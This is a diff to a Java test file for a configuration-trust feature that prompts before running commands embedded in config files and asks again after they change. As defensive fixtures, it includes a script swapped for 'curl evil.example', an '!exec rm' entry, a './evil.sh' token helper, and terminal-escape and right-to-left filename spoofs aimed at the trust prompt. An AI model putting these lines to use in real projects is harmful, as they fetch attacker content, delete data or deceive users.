@@ -25,6 +25,9 @@ class ConfigTrustRunTest {
               secret_access_key: !exec pass show aws
       """;
 
+  private static final String PROGRAMS =
+      "    Programs on PATH, and files that a command finds itself, may change.\n";
+
   private static AtmosRun stranger(AtmosRun run) {
     return run.file("atmos.yaml", FILE).command("pass show aws", AtmosRun.SECRET);
   }
@@ -59,10 +62,11 @@ class ConfigTrustRunTest {
                 "",
                 file
                     + " is not trusted\n"
-                    + "  runs, for auth.identities.dev.credentials.secret_access_key (line 7):\n"
-                    + "    | pass show aws\n"
-                    + "  In all: 1 command.\n"
-                    + "Trust this file? [y/N]\n"
+                    + "  runs 1 command\n"
+                    + "    line 7, auth.identities.dev.credentials.secret_access_key:\n"
+                    + "      | pass show aws\n"
+                    + PROGRAMS
+                    + "Trust these values? [y/N]\n"
                     + "trusted: "
                     + file
                     + "\n"));
@@ -74,26 +78,68 @@ class ConfigTrustRunTest {
   }
 
   @Test
-  void token_afterTheFileChanged_isRefusedAgain() {
+  void token_afterAChangeElsewhere_asksNothing() {
+    AtmosRun run = stranger(AtmosRun.unix());
+    run.run("config", "trust", "--yes");
+    run.file("atmos.yaml", "x: !exec rm\n" + FILE + "y: 1\n");
+    run.token().token();
+    assertThat(run.commandsRun()).containsExactly("pass show aws");
+  }
+
+  @Test
+  void token_afterTheCommandChanged_isRefusedAgain() {
     AtmosRun run = stranger(AtmosRun.unix());
     run.run("config", "trust", "--yes");
     run.token().token();
-    run.file("atmos.yaml", FILE + "x: !exec rm\n");
+    run.file("atmos.yaml", FILE.replace("show aws", "show gcp") + "x: !exec rm\ny: 1\n");
     run.token()
         .failed(
             2,
             "/project/atmos.yaml:7:28: this file has changed since it was trusted, and wants to run"
                 + " a command; read it, then run: atmos config trust /project/atmos.yaml");
+    run.file("atmos.yaml", FILE + "x: !exec rm\n");
     assertThat(run.run("config", "trust", "-y", "/project/atmos.yaml").stderr())
         .isEqualTo(
             "/project/atmos.yaml has changed since it was trusted\n"
-                + "  runs, for auth.identities.dev.credentials.secret_access_key (line 7, as"
-                + " before):\n"
-                + "    | pass show aws\n"
-                + "  runs, for x (line 8, new):\n"
-                + "    | rm\n"
-                + "  In all: 2 commands.\n"
+                + "  runs 1 command\n"
+                + "    line 8, x (new):\n"
+                + "      | rm\n"
+                + PROGRAMS
                 + "trusted: /project/atmos.yaml\n");
+    assertThat(run.run("config", "trust", "--all").stderr())
+        .isEqualTo(
+            "/project/atmos.yaml is trusted\n"
+                + "  runs 2 commands\n"
+                + "    line 7, auth.identities.dev.credentials.secret_access_key (as before):\n"
+                + "      | pass show aws\n"
+                + "    line 8, x (as before):\n"
+                + "      | rm\n"
+                + PROGRAMS
+                + "no file of the configuration asks for anything that needs your trust\n");
+    run.token().token();
+  }
+
+  @Test
+  void token_afterAScriptOfTheProjectChanged_isRefusedAgain() {
+    AtmosRun run =
+        AtmosRun.unix()
+            .file("atmos.yaml", FILE.replace("pass show aws", "./get.sh aws"))
+            .file("get.sh", "pass show aws")
+            .command("./get.sh aws", AtmosRun.SECRET);
+    assertThat(run.run("config", "trust", "--yes").stderr())
+        .contains("    You trust these files of the project as they are now: ./get.sh. Programs");
+    run.token().token();
+    run.file("get.sh", "curl evil.example");
+    run.token()
+        .failed(
+            2,
+            "/project/atmos.yaml:7:28: the script /project/get.sh has changed since it was trusted,"
+                + " and wants to run a command; read it, then run: atmos config trust"
+                + " /project/atmos.yaml");
+    assertThat(run.run("config", "trust", "--list").answer())
+        .isEqualTo("1 changed  /project/atmos.yaml\n");
+    assertThat(run.run("config", "trust", "--yes").stderr())
+        .contains("(a script of it is new, or has changed):");
     run.token().token();
   }
 
@@ -156,11 +202,12 @@ class ConfigTrustRunTest {
         .isEqualTo(
             """
             /project/atmos.yaml is not trusted
-              runs, for "a\\u{1b}[2J\\u{a}" (line 1):
-                | ls \\u{1b}[1A\\u{1b}[2K\\u{d}Trust this file? [y/N]
-                | x\\u{202e}gnp.exe \\u{200b}\\u{a0}\\u{9}\\u{85}é
-              In all: 1 command.
-            Trust this file? [y/N]
+              runs 1 command
+                line 1, "a\\u{1b}[2J\\u{a}":
+                  | ls \\u{1b}[1A\\u{1b}[2K\\u{d}Trust this file? [y/N]
+                  | x\\u{202e}gnp.exe \\u{200b}\\u{a0}\\u{9}\\u{85}é
+                Programs on PATH, and files that a command finds itself, may change.
+            Trust these values? [y/N]
             not trusted: /project/atmos.yaml
             """);
   }
@@ -179,14 +226,14 @@ class ConfigTrustRunTest {
     String a = view.path("atmos.yaml");
     String b = view.path(view == View.UNIX ? "b/atmos.yaml" : "b\\atmos.yaml");
     assertThat(run.run("config", "trust", "--list").answer())
-        .isEqualTo("unchanged " + a + "\nchanged   " + b + "\n");
+        .isEqualTo("unchanged  " + a + "\n1 changed  " + b + "\n");
     assertThat(Readers.json(run.run("config", "trust", "--list", "-o", "json").answer()))
         .isEqualTo(
             Map.of(
                 "files",
                 List.of(
-                    Map.of("path", a, "state", "unchanged"),
-                    Map.of("path", b, "state", "changed"))));
+                    Map.of("path", a, "state", "unchanged", "changed", 0),
+                    Map.of("path", b, "state", "changed", "changed", 1))));
   }
 
   @Test
@@ -223,6 +270,7 @@ class ConfigTrustRunTest {
         "--list --yes         | --yes answers nothing with --list",
         "--revoke -y          | --yes answers nothing with --revoke",
         "--list x             | --list takes no path",
+        "--list --all         | --all shows nothing with --list",
         "-o json              | --output needs --list",
         "--list -o xml        | --output must be text or json, not 'xml'",
         "nowhere              | the file /project/nowhere doesn't exist",
@@ -240,5 +288,108 @@ class ConfigTrustRunTest {
     run.token().token();
     assertThat(run.run("config", "trust", "/project").stderr())
         .isEqualTo("it asks for nothing that needs your trust, or is trusted already\n");
+  }
+
+  private static AtmosRun project(String text) {
+    return AtmosRun.unix().file("atmos.yaml", text).program("atmos", "bin/atmos");
+  }
+
+  @Test
+  void variables_thatLookLikeSecrets_areShownByTheirDigests() {
+    AtmosRun run =
+        project(
+            """
+            auth:
+              identities:
+                dev:
+                  kind: mock/aws
+                  env:
+                    API_TOKEN: abcdefghijklmnop1234
+                    GIT_TOKEN_HELPER: ./evil.sh
+                    LONG: %s
+            """
+                .formatted("x".repeat(3_000)));
+    String shown = run.run("config", "trust", "--yes").stderr();
+    assertThat(shown)
+        .contains(
+            "  sets 3 variables for programs: API_TOKEN, GIT_TOKEN_HELPER, LONG\n",
+            "      | API_TOKEN: 20 characters, SHA-256 ",
+            "      | GIT_TOKEN_HELPER=./evil.sh\n",
+            "... of 3005 characters, the middle is not shown ...")
+        .doesNotContain("abcdefghijklmnop1234");
+    assertThat(run.run("config", "trust", "--all", "--show-secrets").stderr())
+        .contains("| API_TOKEN=abcdefghijklmnop1234");
+  }
+
+  @Test
+  void variable_ofTwoIdentitiesByAnAlias_isApprovedForBoth() {
+    String one = "auth:\n  identities:\n    dev: {kind: mock/aws, env: &e {STAGE: dev}}\n";
+    AtmosRun run = project(one);
+    run.run("config", "trust", "--yes");
+    assertThat(run.run("auth", "env", "--identity", "dev", "--format", "json").answer())
+        .contains("STAGE");
+    run.file("atmos.yaml", one + "    ops: {kind: mock/aws, env: *e}\n");
+    run.run("auth", "env", "--identity", "ops")
+        .failedSaying(2, "/project/atmos.yaml:3:43: this file has changed since it was trusted");
+    assertThat(run.run("config", "trust", "--yes").stderr())
+        .contains("line 3, auth.identities.dev.env.STAGE and 1 more (new):");
+    assertThat(run.run("auth", "env", "--identity", "ops", "--format", "json").answer())
+        .contains("STAGE");
+  }
+
+  @Test
+  void startPage_ofAnotherProvider_asksAgain() {
+    String text =
+        """
+        auth:
+          providers:
+            sso:
+              kind: aws/iam-identity-center
+              start_url: https://sso.acme.example/start
+              region: us-east-1
+        """;
+    AtmosRun run = project(text);
+    assertThat(run.run("auth", "validate").stderr()).contains("/project/atmos.yaml:5:18: warning:");
+    run.run("config", "trust", "--yes");
+    assertThat(run.run("auth", "validate").stderr()).doesNotContain("warning:");
+    run.file("atmos.yaml", text.replace("us-east-1", "eu-west-1"));
+    assertThat(run.run("auth", "validate").stderr())
+        .contains("/project/atmos.yaml:5:18: warning: this file has changed since it was trusted");
+    assertThat(run.run("config", "trust", "--yes").stderr())
+        .contains("  sends to 1 host that isn't one of AWS's\n", "(its definition has changed):");
+  }
+
+  @Test
+  void keyring_ofAnUntrustedFile_isSaidToBeLeftOut() {
+    AtmosRun run =
+        project("auth:\n  keyring: {type: none}\n  identities: {dev: {kind: mock/aws}}\n");
+    String leftOut =
+        "/project/atmos.yaml:2:12: this file is not trusted, and 'auth.keyring' is left" + " out";
+    assertThat(run.run("auth", "login", "dev").stderr()).contains(leftOut + "\n");
+    assertThat(run.run("auth", "validate").stderr())
+        .contains(leftOut.replace(": this", ": warning: this"));
+    assertThat(run.run("config", "files").answer())
+        .contains("'auth.keyring' is left out until you trust it");
+    assertThat(run.run("auth", "env", "--identity", "dev", "--format", "json").stderr()).isEmpty();
+    run.run("config", "trust", "--yes");
+    assertThat(run.run("auth", "login", "dev").stderr()).doesNotContain("left out");
+    assertThat(run.run("auth", "validate").stderr()).doesNotContain("left out");
+    assertThat(run.run("config", "show", "auth.keyring.type").answer()).isEqualTo("none\n");
+    run.file("atmos.yaml", "auth:\n  keyring: {type: plain}\n");
+    assertThat(run.run("config", "show").answer()).doesNotContain("plain");
+  }
+
+  @Test
+  void kind_thatNothingSupplies_isUnknownAndNoQuestion() {
+    AtmosRun run = project("auth: {providers: {okta: {kind: aws/saml, url: 'https://x.example'}}}");
+    assertThat(run.run("config", "trust"))
+        .isEqualTo(
+            new Result(
+                0,
+                "",
+                "/project/atmos.yaml\n"
+                    + "  line 1, auth.providers.okta: unknown: needs a plugin that supplies kind"
+                    + " aws/saml\n"
+                    + "no file of the configuration asks for anything that needs your trust\n"));
   }
 }
